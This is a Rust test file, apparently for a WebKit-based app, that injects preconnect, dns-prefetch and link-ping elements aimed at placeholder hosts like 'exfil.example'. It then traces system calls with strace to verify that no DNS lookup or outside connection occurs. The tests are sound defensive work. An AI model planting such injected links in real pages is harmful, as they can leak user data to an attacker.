//! A page that has gone bad looks for a way out: no name that it chooses is looked up, and no connection is made.

use crate::ensure;
use harness::play::{play, skipped};
use harness::process::named;
use harness::{Done, Opening, Stage};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// How long the trace may take to begin and to see something.
const PATIENCE: Duration = Duration::from_secs(20);

/// Puts a link into the page, as a flaw in it could.
async fn link(stage: &Stage, rel: &str, href: &str) -> Done {
    stage
        .eval(&format!(
            "const link = document.createElement('link'); link.rel = '{rel}'; link.href = '{href}'; \
             link.crossOrigin = 'anonymous'; document.head.append(link)"
        ))
        .await?;
    Ok(())
}

#[test]
fn a_preconnect_connects_to_nobody() {
    play("network-preconnect", Opening::default(), async |stage| {
        let outside = TcpListener::bind(("127.0.0.1", 0))?;
        outside.set_nonblocking(true)?;
        let port = outside.local_addr()?.port();
        for host in ["127.0.0.1", "localhost"] {
            link(stage, "preconnect", &format!("http://{host}:{port}")).await?;
            link(stage, "dns-prefetch", &format!("//{host}:{port}")).await?;
        }
        // What the page loads of its own comes after them.
        stage.go("payouts").await?;
        stage.frames().await?;
        tokio::time::sleep(Duration::from_secs(1)).await;
        ensure(outside.accept().is_err(), "a preconnect reached a listener")
    });
}

#[test]
fn no_name_of_the_pages_choice_is_looked_up() {
    if Command::new("strace").arg("-V").output().is_err() {
        return skipped("strace");
    }
    play("network-names", Opening::default(), async |stage| {
        let told = stage.room().path().join("network.trace");
        let traced = Traced::begin(stage, &told)?;
        link(stage, "preconnect", "https://sales-4711.exfil.example").await?;
        link(stage, "dns-prefetch", "//sales-4712.exfil.example").await?;
        stage
            .eval("document.body.insertAdjacentHTML('beforeend', '<a ping=\"https://sales-4713.exfil.example\" href=\"https://sales-4714.exfil.example\">x</a>')")
            .await?;
        // The way of the preconnect is the proxy that is none: once that was tried, so was everything before it.
        let calls = traced.until("htons(1)").await?;
        let out: Vec<&str> = calls.lines().filter(|call| leaves(call)).collect();
        ensure(out.is_empty(), format!("{out:#?}"))
    });
}

/// Whether a call goes to another computer, or asks a service of this one for a host. (The name service's own cache, nscd, is
/// asked for users too; a host that it does not know is asked of the network next.)
fn leaves(call: &str) -> bool {
    let nowhere = call.contains("htons(1), sin_addr=inet_addr(\"127.0.0.1\")");
    let network = call.contains("AF_INET") && !nowhere;
    let asks = |name: &&str| call.contains(*name);
    network || ["systemd/resolve", "avahi"].iter().any(asks)
}

#[test]
fn what_leaves_is_told_from_what_does_not() {
    for call in [
        "7 connect(21, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr(\"127.0.0.53\")}, 16) = 0",
        "7 connect(21, {sa_family=AF_INET6, sin6_port=htons(443), sin6_addr=\"::1\"}, 28) = -1",
        "7 sendto(21, \"x\", 1, 0, {sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr(\"10.0.0.1\")}, 16) = 1",
        "7 connect(21, {sa_family=AF_UNIX, sun_path=\"/run/systemd/resolve/io.systemd.Resolve\"}, 42) = 0",
    ] {
        assert!(leaves(call), "{call}");
    }
    for call in [
        "7 connect(21, {sa_family=AF_INET, sin_port=htons(1), sin_addr=inet_addr(\"127.0.0.1\")}, 16) = -1",
        "7 connect(4, {sa_family=AF_UNIX, sun_path=\"/var/run/nscd/socket\"}, 110) = -1 ENOENT",
        "7 sendmsg(9, {msg_name=NULL, msg_iov=[{iov_base=\"https://x.exfil.example\"}]}, 0) = 40",
    ] {
        assert!(!leaves(call), "{call}");
    }
}

/// A trace of the processes that could reach a network.
struct Traced<'a> {
    told: &'a Path,
    process: Child,
}

impl<'a> Traced<'a> {
    fn begin(stage: &Stage, told: &'a Path) -> Result<Self, harness::Failure> {
        let mut command = Command::new("strace");
        command
            .args([
                "-f",
                "-s",
                "300",
                "-e",
                "trace=connect,sendto,sendmsg,sendmmsg",
                "-o",
            ])
            .arg(told)
            .stderr(Stdio::null());
        for name in ["WebKitNetworkProcess", "WebKitWebProcess"] {
            for pid in named(&stage.home(), name) {
                command.args(["-p", &pid.to_string()]);
            }
        }
        let process = command.spawn()?;
        let begun = Instant::now();
        // It has begun once it writes down what it sees.
        while !told.exists() && begun.elapsed() < PATIENCE {
            std::thread::sleep(Duration::from_millis(20));
        }
        Ok(Self { told, process })
    }

    /// What was seen once this was.
    async fn until(&self, mark: &str) -> Result<String, harness::Failure> {
        let begun = Instant::now();
        loop {
            let calls = std::fs::read_to_string(self.told).unwrap_or_default();
            if calls.contains(mark) {
                return Ok(calls);
            }
            if begun.elapsed() > PATIENCE {
                return Err(format!("{mark} was never seen:\n{calls}").into());
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

impl Drop for Traced<'_> {
    fn drop(&mut self) {
        // The page goes on without it.
        let _ = Command::new("kill")
            .arg(self.process.id().to_string())
            .status();
        let _ = self.process.wait();
    }
}
